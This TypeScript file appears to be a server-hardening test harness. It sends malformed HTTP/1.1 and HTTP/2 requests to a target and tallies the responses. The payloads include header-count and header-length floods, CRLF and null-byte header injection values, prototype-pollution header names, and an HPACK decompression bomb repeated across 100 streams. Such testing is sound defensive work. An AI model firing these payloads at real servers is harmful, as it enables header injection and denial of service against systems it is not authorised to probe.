import { openAttackSocket } from "../attack-socket.ts";
import { frame, frameFlags, frameTypes, headerBlock, hpackText } from "../http2-frames.ts";
import { methods } from "../methods.ts";
import { openRawHttp2, requestFields } from "../raw-http2.ts";
import { type Attack, type Outcome, type Target, tally } from "../target.ts";

type Fields = readonly (readonly [name: string, value: string])[];

const deadlineMs = 10_000;
const validBody = JSON.stringify({ id: "00000000-0000-4000-8000-000000000000" });

/** Requests with 128 headers and more. */
export const manyHeadersHttp2: Attack = (target) => requestsHttp2(target, [fields(128), fields(1_000)]);
export const manyHeadersHttp1: Attack = (target) => requestsHttp1(target, [fields(128), fields(1_000)]);

/** Requests with a few long headers. */
export const longHeadersHttp2: Attack = (target) =>
  requestsHttp2(target, [
    [
      ["x-long", "a".repeat(15_000)],
      ["x-long-too", "a".repeat(15_000)],
    ],
    fields(5, "a".repeat(14_000)),
  ]);
export const longHeadersHttp1: Attack = (target) =>
  requestsHttp1(target, [[["x-long", "a".repeat(20_000)]], fields(50, "a".repeat(1_000))]);

/** Requests whose headers try to inject another header or another response. */
const smuggling: readonly Fields[] = [
  [["x-evil", "a\r\nset-cookie: b=c"]],
  [["x-evil\r\nx-other", "a"]],
  [["x-evil", "a\nb"]],
  [["x-evil", "a\0b"]],
];
export const crlfHttp2: Attack = (target) => requestsHttp2(target, smuggling);
export const crlfHttp1: Attack = (target) =>
  requestsHttp1(target, [[["x-evil", "a\rset-cookie: b=c"]], [["x-evil", "a\0b"]], [["x evil", "a"]]]);

/** Requests whose headers have the names of properties of Object.prototype. */
const inherited: readonly Fields[] = [
  [["__proto__", "polluted"]],
  [
    ["__proto__", "polluted"],
    ["__proto__", "twice"],
  ],
  [
    ["constructor", "polluted"],
    ["tostring", "polluted"],
    ["__definegetter__", "polluted"],
  ],
];
export const protoHeadersHttp2: Attack = (target) => requestsHttp2(target, inherited);
export const protoHeadersHttp1: Attack = (target) => requestsHttp1(target, inherited);

/** A header that is sent once and then repeated by reference, so that a few bytes decode to many. */
export const hpackBomb: Attack = async (target) => {
  using raw = await openRawHttp2(target);
  const plain = headerBlock(requestFields(target, methods.getProduct, "application/grpc"));
  const indexed = Buffer.concat([Buffer.of(0x40), hpackText("x-bomb"), hpackText("a".repeat(4_000))]);
  const references = Buffer.alloc(10_000, 0x80 | 62);
  const block = Buffer.concat([plain, indexed, references]);
  for (let stream = 1; stream < 2 * bombs && raw.isOpen(); stream += 2) {
    await raw.send(frame(frameTypes.headers, frameFlags.endHeaders | frameFlags.endStream, stream, block));
  }
  const until = performance.now() + deadlineMs;
  while (raw.isOpen() && raw.resets.size < bombs && performance.now() < until) await raw.endsWithin(20);
  return tally(raw.resets.size > 0 ? raw.resets.values() : [await raw.ending(0)]);
};

async function requestsHttp2(target: Target, requests: readonly Fields[]): Promise<Outcome> {
  const endings = requests.map(async (extra) => {
    using raw = await openRawHttp2(target);
    const block = headerBlock(requestFields(target, methods.getProduct, "application/json", extra));
    const parts: Buffer[] = [];
    for (let at = 0; at < block.length; at += maxFrame) {
      const flags = at + maxFrame >= block.length ? frameFlags.endHeaders : frameFlags.none;
      const type = at === 0 ? frameTypes.headers : frameTypes.continuation;
      parts.push(frame(type, flags, 1, block.subarray(at, at + maxFrame)));
    }
    await raw.send(Buffer.concat([...parts, frame(frameTypes.data, frameFlags.endStream, 1, Buffer.from(validBody))]));
    const until = performance.now() + deadlineMs;
    while (raw.isOpen() && !raw.answers.has(1) && !raw.resets.has(1) && performance.now() < until)
      await raw.endsWithin(20);
    return raw.answers.get(1) ?? raw.resets.get(1) ?? (await raw.ending(0));
  });
  return tally(await Promise.all(endings));
}

const maxFrame = 16_384;
const bombs = 100;

async function requestsHttp1(target: Target, requests: readonly Fields[]): Promise<Outcome> {
  const endings = requests.map(async (extra) => {
    let answer = "";
    using raw = await openAttackSocket(target, (chunk) => {
      answer += chunk.toString("latin1");
    });
    const lines = extra.map(([name, value]) => `${name}: ${value}\r\n`).join("");
    const head = `POST ${methods.getProduct} HTTP/1.1\r\nhost: ${target.host}:${target.port}\r\nconnection: close\r\n`;
    const length = `content-type: application/json\r\ncontent-length: ${validBody.length}\r\n`;
    await raw.send(`${head}${length}${lines}\r\n${validBody}`);
    if (!(await raw.endsWithin(deadlineMs))) return "still open";
    if (/set-cookie|polluted/i.test(answer)) return "echoed";
    return answer === "" ? "closed" : `HTTP ${answer.slice(9, 12)}`;
  });
  return tally(await Promise.all(endings));
}

function fields(count: number, value = "a"): Fields {
  return Array.from({ length: count }, (_, index) => [`x-field-${index}`, value] as const);
}
